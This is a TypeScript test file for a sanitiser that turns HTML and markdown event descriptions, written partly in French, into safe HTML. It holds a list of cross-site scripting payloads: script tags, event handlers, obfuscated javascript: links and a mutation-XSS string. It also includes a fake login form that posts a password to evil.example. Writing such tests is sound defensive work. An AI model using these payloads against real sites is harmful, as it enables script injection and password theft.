import { expect } from '@open-wc/testing';
import { descriptionToHtml, looksLikeHtml, markdownToHtml, safeLinkHref, sanitizeHtml } from '../../src/content/description.js';

declare global {
  interface Window {
    __sdiPwned?: string[];
  }
}

/** Puts sanitised HTML in the live document, where an unsafe payload would run, and waits a little. */
async function mount(html: string): Promise<HTMLElement> {
  const host = document.createElement('div');
  host.innerHTML = html;
  document.body.append(host);
  await new Promise((resolve) => setTimeout(resolve, 150));
  return host;
}

const HOSTILE = [
  '<script>(window.__sdiPwned ||= []).push("script")</script>',
  '<img src="x" onerror="(window.__sdiPwned ||= []).push(\'onerror\')">',
  '<img src="javascript:(window.__sdiPwned ||= []).push(\'img-js\')">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="javascript:(window.__sdiPwned ||= []).push(\'a-js\')">cliquez</a>',
  '<a href=" JaVaScRiPt:(window.__sdiPwned ||= []).push(\'a-js2\')">cliquez</a>',
  '<a href="java&#x09;script:(window.__sdiPwned ||= []).push(\'a-js3\')">cliquez</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<iframe src="javascript:(window.__sdiPwned ||= []).push(\'iframe\')"></iframe>',
  '<svg><script>(window.__sdiPwned ||= []).push("svg")</script></svg>',
  '<svg onload="(window.__sdiPwned ||= []).push(\'svg-onload\')"></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="(window.__sdiPwned ||= []).push(\'mxss\')">',
  '<p style="position:fixed;inset:0;background:red" onclick="(window.__sdiPwned ||= []).push(\'click\')">Texte</p>',
  '<form action="https://evil.example/"><input name="password"><button>OK</button></form>',
  '<style>body { display: none }</style>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<details open ontoggle="(window.__sdiPwned ||= []).push(\'toggle\')">x</details>',
  '<a href="https://ok.example/" onmouseover="(window.__sdiPwned ||= []).push(\'over\')" target="_self">ok</a>',
];

describe('description.ts: feed HTML/markdown to safe HTML', () => {
  beforeEach(() => {
    window.__sdiPwned = [];
  });

  it('runs none of the hostile payloads and keeps only allowed markup', async () => {
    for (const payload of HOSTILE) {
      for (const input of [payload, `Intro\n\n${payload}\n\n**fin**`]) {
        const clean = await descriptionToHtml(input);
        const host = await mount(clean);
        try {
          expect(window.__sdiPwned, `${input} → ${clean}`).to.deep.equal([]);
          expect(host.querySelector('script, iframe, style, form, input, object, embed, svg, math, details'), clean).to.equal(
            null,
          );
          for (const element of host.querySelectorAll('*')) {
            for (const attribute of element.getAttributeNames()) {
              expect(attribute.startsWith('on'), `${attribute} in ${clean}`).to.equal(false);
              expect(attribute, clean).to.not.equal('style');
            }
          }
          for (const link of host.querySelectorAll('a[href]')) {
            expect(link.getAttribute('href'), clean).to.match(/^(https?:|mailto:|tel:)/);
            expect(link.getAttribute('rel')).to.equal('noopener noreferrer');
            expect(link.getAttribute('target')).to.equal('_blank');
          }
          for (const img of host.querySelectorAll('img')) expect(img.getAttribute('src'), clean).to.match(/^https?:/);
        } finally {
          host.remove();
        }
      }
    }
  });

  it('turns markdown javascript: links into plain text', async () => {
    const clean = await descriptionToHtml('[cliquez](javascript:(window.__sdiPwned||=[]).push("md"))');
    const host = await mount(clean);
    try {
      expect(host.querySelector('a[href]')).to.equal(null);
      expect(host.textContent).to.contain('cliquez');
      host.querySelector('a')?.click();
      expect(window.__sdiPwned).to.deep.equal([]);
    } finally {
      host.remove();
    }
  });

  it('converts the markdown subset organisers use', () => {
    const html = markdownToHtml(
      [
        '# Programme',
        'Une **visite** guidée, *gratuite*.',
        'Deuxième ligne.',
        '',
        '## Au menu',
        '- atelier soudure',
        '- [inscription](https://exemple.fr/inscription)',
        '',
        '1. accueil',
        '2. visite',
        '',
        'Plus : https://exemple.fr/page.',
      ].join('\n'),
    );
    expect(html).to.equal(
      [
        '<h4>Programme</h4>',
        '<p>Une <strong>visite</strong> guidée, <em>gratuite</em>.<br>Deuxième ligne.</p>',
        '<h5>Au menu</h5>',
        '<ul><li>atelier soudure</li><li><a href="https://exemple.fr/inscription">inscription</a></li></ul>',
        '<ol><li>accueil</li><li>visite</li></ol>',
        '<p>Plus : <a href="https://exemple.fr/page">https://exemple.fr/page</a>.</p>',
      ].join('\n'),
    );
  });

  it('leaves words with underscores and lone asterisks alone', () => {
    expect(markdownToHtml('fichier_de_test et 3 * 4 = 12')).to.equal('<p>fichier_de_test et 3 * 4 = 12</p>');
  });

  it('keeps whole-HTML descriptions, demoting headings below the dialog’s title', async () => {
    expect(looksLikeHtml('<p>Bonjour</p>')).to.equal(true);
    expect(looksLikeHtml('Un texte avec <strong>gras</strong>')).to.equal(false);
    const clean = await sanitizeHtml(
      '<h1>Titre</h1><h2>Sous-titre</h2><p>Texte <a href="mailto:rh@example.com">RH</a> <a href="tel:+33102030405">tél.</a></p>',
    );
    expect(clean).to.contain('<h4>Titre</h4>');
    expect(clean).to.contain('<h5>Sous-titre</h5>');
    expect(clean).to.contain('href="mailto:rh@example.com"');
    expect(clean).to.contain('href="tel:+33102030405"');
  });

  it('makes images lazy, web-only and described', async () => {
    const clean = await descriptionToHtml('![Atelier](https://cdn.example.fr/a.jpg)\n\n![](javascript:alert(1))');
    const host = await mount(clean);
    try {
      const images = [...host.querySelectorAll('img')];
      expect(images.length).to.equal(1);
      expect(images[0]?.getAttribute('src')).to.equal('https://cdn.example.fr/a.jpg');
      expect(images[0]?.getAttribute('loading')).to.equal('lazy');
      expect(images[0]?.getAttribute('alt')).to.equal('Atelier');
    } finally {
      host.remove();
    }
  });

  it('accepts only http(s), mailto: and tel: link targets', () => {
    expect(safeLinkHref('https://exemple.fr/')).to.equal('https://exemple.fr/');
    expect(safeLinkHref('mailto:contact@exemple.fr')).to.equal('mailto:contact@exemple.fr');
    expect(safeLinkHref('tel:+33 1 02 03 04 05')).to.equal('tel:+33 1 02 03 04 05');
    for (const bad of [
      'javascript:alert(1)',
      'data:text/html,x',
      '//evil.example/',
      'ftp://x.fr/',
      'https://user:pw@x.fr/',
      'mailto:<x>',
    ]) {
      expect(safeLinkHref(bad), bad).to.equal(undefined);
    }
  });

  it('returns nothing for an empty description', async () => {
    expect(await descriptionToHtml(undefined)).to.equal('');
    expect(await descriptionToHtml('  \n ')).to.equal('');
  });
});
